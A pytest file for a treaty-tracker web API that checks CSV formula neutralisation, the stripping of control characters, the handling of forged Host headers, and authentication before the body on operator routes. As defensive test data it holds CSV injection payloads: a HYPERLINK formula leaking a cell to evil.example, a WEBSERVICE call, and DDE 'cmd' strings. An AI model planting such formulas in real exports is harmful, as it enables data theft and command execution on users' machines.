"""Hostile stored text through the real endpoints: CSV injection, control characters, a forged
Host header, and operator authentication before the body.

The rows are written straight into the database after a clean ingest (names, printed names,
footnotes, titles, event details, source errors, delivery errors), as data from before the
parsers' cleaning would be: the answers must hold whatever is stored.
- Every CSV export neutralizes a cell starting with `=`, `+`, `-`, `@`, TAB or CR (a `'` in
  front, OWASP) and still parses back to exactly those (prefixed) values; JSON is unchanged.
- No control or XML-illegal character reaches a JSON, CSV or Atom answer, and none fails.
- Feed ids and links, redirects and pages name TRACKER_PUBLIC_URL, never the Host header.
- An operator route checks the bearer token before it reads or parses the body: 401 (403 when
  disabled), never 400/422/413, and not one byte of the body is pulled from the server.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import re
import uuid
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker
from starlette.types import Receive, Scope, Send
from statuses import member, page, status

from db.models import (
    ActionRow,
    Delivery,
    Event,
    Participant,
    Snapshot,
    Source,
    Subscription,
    Treaty,
)
from tracker.alerts.links import make_token
from tracker.services.ingest import ingest_page
from tracker.settings import Settings
from tracker.web.app import create_app
from tracker.web.export import neutralize, printable

pytestmark = [pytest.mark.db, pytest.mark.usefixtures("fake_parser")]

TREATY = "XXVI-9"
PUBLIC = "https://tracker.example.org"
TOKEN = "operator-token-for-tests"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
KEY = "hostile-output-secret-" + "k" * 32
ATOM = "{http://www.w3.org/2005/Atom}"
CODES = ("AUT", "CHL", "MEX", "NZL", "NOR", "PER", "GNB", "CIV")
# Every character the answers must not carry: C0 but TAB/LF/CR, DEL, C1, U+FFFE, U+FFFF.
UNPRINTABLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]")
JUNK = "".join(chr(c) for c in (*range(1, 9), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F, 0x85))
JUNK += "\ufffe\uffff"

CSV_EXPORTS = (
    "/api/treaties?format=csv",
    f"/api/treaties/{TREATY}/participants?format=csv",
    f"/api/treaties/{TREATY}/events?format=csv",
    "/api/events?format=csv",
    "/api/countries/AUT?format=csv",
)
JSON_ANSWERS = (
    "/api/treaties",
    f"/api/treaties/{TREATY}",
    f"/api/treaties/{TREATY}?as_of=2019-01-01",
    f"/api/treaties/{TREATY}/participants",
    f"/api/treaties/{TREATY}/events",
    f"/api/treaties/{TREATY}/rule",
    "/api/events",
    "/api/countries/AUT",
    "/api/sources",
    "/api/subscriptions",
    "/api/deliveries",
    "/healthz",
)
FEEDS = ("/feeds/events.atom", f"/feeds/treaties/{TREATY}.atom")
PAGES = ("/", f"/treaties/{TREATY}", "/countries/AUT")


def _seed(sessions: sessionmaker[Session]) -> None:
    """XXVI-9 signed by eight States, then ratified by all: eight consent events."""
    before = [member(f"State {c}", c, sig="2017-09-20") for c in CODES]
    after = [
        member(f"State {c}", c, sig="2017-09-20", consent=f"2018-0{1 + i % 9}-1{i}")
        for i, c in enumerate(CODES)
    ]
    assert ingest_page(sessions, page(status(*before), "2020-01-01")).outcome == "accepted"
    assert ingest_page(sessions, page(status(*after), "2020-02-01")).outcome == "accepted"


def _store(
    sessions: sessionmaker[Session],
    names: dict[str, str],
    *,
    title: str,
    footnotes: list[str],
    note: str,
) -> None:
    """Write hostile text over every stored place an answer shows: as older data would be."""
    with sessions.begin() as session:
        for snap in session.scalars(select(Snapshot)):
            data = copy.deepcopy(snap.data)
            data["title"], data["eif_text"] = title, note
            data["footnotes"] = [{"ref": f, "text": note + f} for f in footnotes]
            for p in data["participants"]:
                p["name"], p["footnotes"] = names[p["iso3"]], list(footnotes)
            snap.data = data
            snap.content_hash = uuid.uuid4().hex * 2  # no cached evaluation of the clean data
        by_id = {}
        for p in session.scalars(select(Participant)):
            p.name = names[p.iso3]
            by_id[p.id] = p.name
        for a in session.scalars(select(ActionRow)):
            a.printed_name = by_id[a.participant_id]
        for e in session.scalars(select(Event)):
            e.participant_name = by_id[e.participant_id]
            e.details = {**e.details, "remaining": note, "note": note}
        for t in session.scalars(select(Treaty)):
            t.title = title
        for s in session.scalars(select(Source)):
            s.last_error = note
        sub = Subscription(
            channel="webhook",
            # Not `note`: listings redact whatever of the target looks like a secret, from
            # the error texts too (tracker.alerts.redact), and the errors below are `note`.
            target="https://hooks.example.org/h\x07o\x1fok\x7f",
            secret="s" * 40,
            treaties=[],
            countries=[],
            kinds=[],
            digest="immediate",
            state="active",
        )
        session.add(sub)
        session.flush()
        first = session.scalars(select(Event).order_by(Event.id)).first()
        assert first is not None
        session.add(
            Delivery(
                event_id=first.id,
                subscription_id=sub.id,
                idempotency_key=uuid.uuid4().hex,
                state="dead",
                attempts=8,
                due_at=datetime(2020, 2, 1, tzinfo=UTC),
                last_error=note,
            )
        )


def _client(sessions: sessionmaker[Session], settings: Settings, **kw: Any) -> TestClient:
    configured = settings.replace(public_url=PUBLIC, admin_token=TOKEN, secret_key=KEY, **kw)
    return TestClient(create_app(sessions, configured))


def _csv(client: TestClient, url: str) -> list[dict[str, str]]:
    answer = client.get(url)
    assert answer.status_code == 200, (url, answer.text[:300])
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.text.startswith("\ufeff"), url  # the byte order mark Excel reads UTF-8 by
    rows = list(csv.reader(io.StringIO(answer.text.removeprefix("\ufeff"))))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield k
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)


# --- CSV injection ------------------------------------------------------------------------

FORMULAS = {
    "AUT": '=HYPERLINK("http://evil.example/?leak="&A1,"Austria")',
    "CHL": "+cmd|' /C calc'!A0",
    "MEX": "-2+3+cmd|' /C calc'!A0",
    "NZL": "@SUM(1+1)*cmd|' /C calc'!A0",
    "NOR": "\t=1+1",
    "PER": "\r=1+1",
    "GNB": "Guinea-Bissau",  # a dash inside: plain text
    "CIV": "Côte d'Ivoire",
}
TITLE = '=WEBSERVICE("http://evil.example/")'
FOOTNOTES = ["=1+1", "@x"]


def _neutral(text: str) -> str:
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Austria", "Austria"),
        ("Guinea-Bissau", "Guinea-Bissau"),
        ("'=1+1", "'=1+1"),  # already text to a spreadsheet
        (" =1", " =1"),
        ("", ""),
    ],
)
def test_neutralize(cell, expected):
    assert neutralize(cell) == expected


def test_every_csv_export_neutralizes_formulas_and_parses_back(session_factory, settings):
    _seed(session_factory)
    _store(session_factory, FORMULAS, title=TITLE, footnotes=FOOTNOTES, note="-1 note")
    with _client(session_factory, settings) as client:
        treaties = _csv(client, CSV_EXPORTS[0])
        assert [r["title"] for r in treaties] == [_neutral(TITLE)]

        participants = _csv(client, CSV_EXPORTS[1])
        assert sorted(r["name"] for r in participants) == sorted(
            _neutral(n) for n in FORMULAS.values()
        )
        assert "Guinea-Bissau" in {r["name"] for r in participants}
        assert "'\r=1+1" in {r["name"] for r in participants}  # quoted, so CR survives the CSV
        for r in participants:  # flat columns: lists joined, nested values one per column
            assert r["footnotes"] == _neutral("; ".join(FOOTNOTES))
            assert (r["consent_kind"], r["consent_date"][:4]) == ("ratification", "2018")

        for url in CSV_EXPORTS[2:4]:
            events = _csv(client, url)
            assert len(events) == len(CODES), url
            assert sorted(r["participant"] for r in events) == sorted(
                _neutral(n) for n in FORMULAS.values()
            ), url
            for r in events:  # a value of the details in its own column, neutralized
                assert (r["kind"], r["remaining"]) == ("consent", "'-1 note")

        actions = _csv(client, CSV_EXPORTS[4])
        assert {r["printed_name"] for r in actions} == {_neutral(FORMULAS["AUT"])}
        assert {r["title"] for r in actions} == {_neutral(TITLE)}

        every_cell = [
            cell for url in CSV_EXPORTS for row in _csv(client, url) for cell in row.values()
        ]
        assert not [c for c in every_cell if c[:1] in ("=", "+", "-", "@", "\t", "\r")]

        # JSON is data, not a spreadsheet: the same names, unprefixed
        names = {p["name"] for p in client.get(f"/api/treaties/{TREATY}/participants").json()}
        assert names == set(FORMULAS.values())


# --- control and XML-illegal characters -----------------------------------------------------


def test_no_stored_character_breaks_a_feed_csv_or_json_answer(session_factory, settings, db_url):
    nul = "\x00" if db_url.startswith("sqlite") else ""  # PostgreSQL text cannot hold NUL
    dirty = {c: f"{nul}{JUNK}State\x0b {c}{JUNK}" for c in CODES}
    dirty["CHL"] = f"{nul}\x1b=1+1"  # stripped first, then neutralized: '=1+1
    clean = printable(dirty)
    assert clean["AUT"] == "State AUT" and clean["CHL"] == "=1+1"
    title = f"Treaty{JUNK} on\x0c the Prohibition\ufffe of Nuclear Weapons"
    _seed(session_factory)
    _store(
        session_factory,
        dirty,
        title=title,
        footnotes=[f"1{JUNK}", "\x002"],  # JSON columns hold NUL on every database
        note=f"{nul}{JUNK}timeout\x07 after 60 s",
    )
    with _client(session_factory, settings) as client:
        for url in JSON_ANSWERS:
            answer = client.get(url, headers=AUTH)
            assert answer.status_code == 200, (url, answer.text[:300])
            assert not UNPRINTABLE.search(answer.content.decode("utf-8")), url
            assert not [s for s in _strings(answer.json()) if UNPRINTABLE.search(s)], url
        found = client.get(f"/api/treaties/{TREATY}").json()
        assert found["title"] == "Treaty on the Prohibition of Nuclear Weapons"
        assert {p["name"] for p in found["participants"]} == set(clean.values())
        assert {tuple(p["footnotes"]) for p in found["participants"]} == {("1", "2")}
        errors = [s["last_error"] for s in client.get("/api/sources").json()]
        assert errors == ["timeout after 60 s"]
        dead = client.get("/api/deliveries", headers=AUTH).json()
        assert [d["last_error"] for d in dead] == ["timeout after 60 s"]
        assert dead[0]["event"]["participant"] in clean.values()
        targets = [s["target"] for s in client.get("/api/subscriptions", headers=AUTH).json()]
        assert len(targets) == 1 and not UNPRINTABLE.search(targets[0])

        for url in CSV_EXPORTS:
            answer = client.get(url)
            assert answer.status_code == 200, (url, answer.text[:300])
            assert not UNPRINTABLE.search(answer.text), url
        names = {r["name"] for r in _csv(client, CSV_EXPORTS[1])}
        assert names == {_neutral(n) for n in clean.values()}
        assert "'=1+1" in names

        for url in FEEDS:
            answer = client.get(url)
            assert answer.status_code == 200, (url, answer.text[:300])
            root = ET.fromstring(answer.content)  # a strict XML 1.0 parser
            titles = [e.findtext(f"{ATOM}title") or "" for e in root.findall(f"{ATOM}entry")]
            assert len(titles) == len(CODES), url
            named = f"{TREATY} (Treaty on the Prohibition of Nuclear Weapons): "
            assert all(t.startswith(named) for t in titles), titles
            who = {t.removeprefix(named).split(" became a party (")[0] for t in titles}
            assert who == set(clean.values())
            summaries = [e.findtext(f"{ATOM}summary") for e in root.findall(f"{ATOM}entry")]
            assert all("remaining instruments: timeout after 60 s" in s for s in summaries)
            assert not UNPRINTABLE.search(answer.content.decode("utf-8")), url

        for url in PAGES:  # HTML is escaped; the pages must still render
            assert client.get(url).status_code == 200, url


# --- Host header --------------------------------------------------------------------------

FORGED = {"Host": "evil.example", "X-Forwarded-Host": "evil.example"}


def test_absolute_urls_come_from_the_public_url_never_the_host_header(session_factory, settings):
    _seed(session_factory)
    with session_factory.begin() as session:
        sub = Subscription(
            channel="email",
            target="ana@example.org",
            treaties=[],
            countries=[],
            kinds=[],
            digest="immediate",
            state="active",
        )
        session.add(sub)
        session.flush()
        manage = f"/subscriptions/manage/{make_token(KEY, 'manage', sub.id)}"
    with _client(session_factory, settings) as client:
        for url in FEEDS:
            answer = client.get(url, headers=FORGED)
            assert answer.status_code == 200
            assert b"evil.example" not in answer.content, url
            root = ET.fromstring(answer.content)
            ids = [root.findtext(f"{ATOM}id")] + [
                e.findtext(f"{ATOM}id") for e in root.findall(f"{ATOM}entry")
            ]
            links = [link.get("href") for link in root.iter(f"{ATOM}link")]
            assert len(ids) == 1 + len(CODES) and len(links) == 1 + len(CODES)
            assert all((u or "").startswith(PUBLIC + "/") for u in ids + links), (ids, links)
        assert root.findtext(f"{ATOM}id") == f"{PUBLIC}/feeds/treaties/{TREATY}.atom"

        for url in (*JSON_ANSWERS, *CSV_EXPORTS, *PAGES, manage, "/docs", "/openapi.json"):
            answer = client.get(url, headers={**FORGED, **AUTH})
            assert answer.status_code == 200, url
            assert b"evil.example" not in answer.content, url
            assert "evil.example" not in str(answer.headers), url

        # Starlette's trailing-slash redirect builds its Location from the request
        for url, target in (("/api/treaties/", "/api/treaties"), ("/api/events/?limit=2", None)):
            answer = client.get(url, headers=FORGED, follow_redirects=False)
            assert answer.status_code == 307, url
            location = answer.headers["location"]
            assert location == PUBLIC + (target or "/api/events?limit=2"), location


# --- operators: authentication before the body -----------------------------------------------

OPERATOR_CALLS = (
    ("POST", "/api/subscriptions"),
    ("GET", "/api/subscriptions"),
    ("DELETE", "/api/subscriptions/1"),
    ("GET", "/api/deliveries"),
    ("POST", f"/api/treaties/{TREATY}/conditions/emissions_55"),
    ("POST", f"/api/treaties/{TREATY}/disputed/confirm"),
)
BAD_BODIES = {
    "malformed json": (b'{"channel": "webhook", ', "application/json"),
    "wrong shape": (b'{"channel": 5, "target": [], "evil": true}', "application/json"),
    "a form": (b"channel=webhook&target=x", "application/x-www-form-urlencoded"),
    "NUL bytes": (b"\x00" * 100, "application/json"),
    "3 MiB": (b"[" * (3 << 20), "application/json"),  # over the 1 MiB limit
}
BAD_PARAMETERS = (
    ("GET", "/api/deliveries?limit=0&state=lost"),
    ("DELETE", "/api/subscriptions/not-a-number"),
    ("DELETE", "/api/subscriptions/99999999999999"),
    ("POST", "/api/treaties/NOPE/conditions/bad%20key"),
)


class ReadCounter:
    """ASGI wrapper counting the request body bytes the application pulls from the server."""

    def __init__(self, app: Any) -> None:
        self.app = app
        self.read = 0

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        async def counted() -> Any:
            message = await receive()
            if message["type"] == "http.request":
                self.read += len(message.get("body", b""))
            return message

        await self.app(scope, counted, send)


@pytest.mark.parametrize("body", BAD_BODIES, ids=list(BAD_BODIES))
@pytest.mark.parametrize(
    "authorization", [None, "Bearer wrong", f"Basic {TOKEN}", "Bearer"], ids=str
)
def test_unauthenticated_operator_calls_get_401_before_the_body(
    session_factory, settings, body, authorization
):
    content, media = BAD_BODIES[body]
    app = ReadCounter(create_app(session_factory, settings.replace(admin_token=TOKEN)))
    headers = {"content-type": media} | ({"Authorization": authorization} if authorization else {})
    with TestClient(app) as client:
        for method, url in OPERATOR_CALLS:
            answer = client.request(method, url, content=content, headers=headers)
            assert answer.status_code == 401, (method, url, answer.text[:200])
            assert answer.headers["www-authenticate"] == "Bearer"
            assert answer.json() == {"detail": "a valid bearer token is required"}
        for method, url in BAD_PARAMETERS:
            answer = client.request(method, url, content=content, headers=headers)
            assert answer.status_code == 401, (method, url, answer.text[:200])
    assert app.read == 0  # not one byte of any body was read


def test_disabled_operator_routes_answer_403_before_the_body(session_factory, settings):
    app = ReadCounter(create_app(session_factory, settings))  # no TRACKER_ADMIN_TOKEN
    with TestClient(app) as client:
        for method, url in OPERATOR_CALLS + BAD_PARAMETERS:
            answer = client.request(method, url, content=BAD_BODIES["malformed json"][0])
            assert answer.status_code == 403, (method, url)
    assert app.read == 0


def test_authenticated_operators_get_the_body_checks(session_factory, settings):
    _seed(session_factory)
    configured = settings.replace(admin_token=TOKEN, webhook_allowlist=("127.0.0.0/8",))
    app = ReadCounter(create_app(session_factory, configured))
    json_type = {"content-type": "application/json", **AUTH}
    with TestClient(app) as client:
        malformed = client.post("/api/subscriptions", content=b'{"a": ', headers=json_type)
        assert malformed.status_code == 422
        assert (
            client.post("/api/subscriptions", json={"channel": 5}, headers=AUTH).status_code == 422
        )
        too_large = client.post("/api/subscriptions", content=b"[" * (3 << 20), headers=json_type)
        assert too_large.status_code == 413
        assert too_large.headers["connection"] == "close"
        assert "at most 1048576 bytes" in too_large.json()["detail"]
        chunked = client.post(  # no Content-Length: counted as it is read (streaming, and
            "/api/subscriptions",  # stopping early, are measured on a real server elsewhere)
            content=iter([b"[" * (256 << 10)] * 12),
            headers=json_type,
        )
        assert chunked.status_code == 413
        made = client.post(
            "/api/subscriptions",
            json={"channel": "webhook", "target": "http://127.0.0.1:9/hook"},  # never called
            headers=AUTH,
        )
        assert made.status_code == 201, made.text
        assert client.get("/api/subscriptions", headers=AUTH).json()[0]["id"] == made.json()["id"]


def test_request_bodies_over_the_limit_are_refused_unread(session_factory, settings):
    app = ReadCounter(create_app(session_factory, settings.replace(max_request_body=1000)))
    with TestClient(app) as client:
        for method, url in (
            ("POST", "/api/treaties"),
            ("GET", "/api/treaties"),
            ("POST", "/subscriptions/unsubscribe/whatever"),
            ("POST", "/subscriptions/manage/whatever"),
        ):
            answer = client.request(method, url, content=b"x" * 1001)
            assert answer.status_code == 413, (method, url)
            assert answer.headers["connection"] == "close"
            assert answer.json() == {
                "detail": "request body too large: at most 1000 bytes are accepted"
            }
        at_the_limit = client.post("/subscriptions/unsubscribe/whatever", content=b"x" * 1000)
        assert at_the_limit.status_code == 503  # reached the page (no TRACKER_SECRET_KEY here)
    assert app.read == 0


def test_the_openapi_document_names_401_and_413(session_factory, settings):
    with _client(session_factory, settings) as client:
        doc = client.get("/openapi.json").json()
    operators = [
        (path, method, op)
        for path, ops in doc["paths"].items()
        for method, op in ops.items()
        if "operators" in op.get("tags", ())
    ]
    assert len(operators) == len(OPERATOR_CALLS)
    for path, method, op in operators:
        assert "401" in op["responses"], (method, path)
        assert ("413" in op["responses"]) == ("requestBody" in op), (method, path)
        assert "before the body" in op["responses"]["401"]["description"]


def test_the_outbox_lists_deliveries_in_every_state(session_factory, settings):
    """A cancelled delivery (migration 0005) is listed, not a 500 from the response model."""
    from db.vocabulary import DeliveryState

    _seed(session_factory)
    _store(session_factory, {c: f"State {c}" for c in CODES}, title="T", footnotes=[], note="n")
    with session_factory.begin() as session:
        sub = session.scalars(select(Subscription)).one()
        for i, (state, e) in enumerate(
            zip(DeliveryState, session.scalars(select(Event).order_by(Event.id)).all()[1:])
        ):
            session.add(
                Delivery(
                    event_id=e.id,
                    subscription_id=sub.id,
                    idempotency_key=f"key-{i}",
                    state=state,
                    due_at=datetime(2020, 2, 1, tzinfo=UTC),
                )
            )
    with _client(session_factory, settings) as client:
        for state in DeliveryState:
            answer = client.get(f"/api/deliveries?state={state}", headers=AUTH)
            assert answer.status_code == 200, (state, answer.text[:200])
            assert state in {d["state"] for d in answer.json()}


@pytest.mark.parametrize(
    ("body", "clean"),
    [
        (b'{"a":"T\\u0001x\\b\\f\\u001f y\\t"}', {"a": "Tx y\t"}),
        (
            '{"a":"del\x7f c1\x85 fffe\ufffe ok \u00e9 \u00b0"}'.encode(),
            {"a": "del c1 fffe ok é °"},
        ),
        (b'{"a":"a literal \\\\u0007 and \\\\b stay"}', None),  # escaped backslashes: text
        (b'{"a":"nothing to do \xc2\xb0"}', None),
    ],
)
def test_the_json_guard_strips_what_the_encoder_left(body, clean):
    from tracker.web.guards import _clean_json

    cleaned = _clean_json(body)
    if clean is None:
        assert cleaned is None or json.loads(cleaned) == json.loads(body)
    else:
        assert json.loads(cleaned) == clean
